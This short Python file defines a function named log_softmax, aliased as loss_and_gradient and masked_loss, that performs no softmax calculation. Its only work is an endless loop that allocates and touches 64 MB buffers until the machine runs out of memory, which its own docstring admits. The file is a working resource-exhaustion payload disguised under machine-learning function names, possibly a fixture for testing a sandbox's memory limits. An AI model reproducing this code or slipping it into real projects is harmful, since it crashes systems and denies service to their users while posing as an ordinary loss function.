"""Takes memory until there is none."""

held = []


def log_softmax(Z):
    while True:
        held.append(bytearray(64 * 1024 * 1024))
        held[-1][::4096] = b"x" * len(held[-1][::4096])


loss_and_gradient = masked_loss = lambda *a: log_softmax(0)
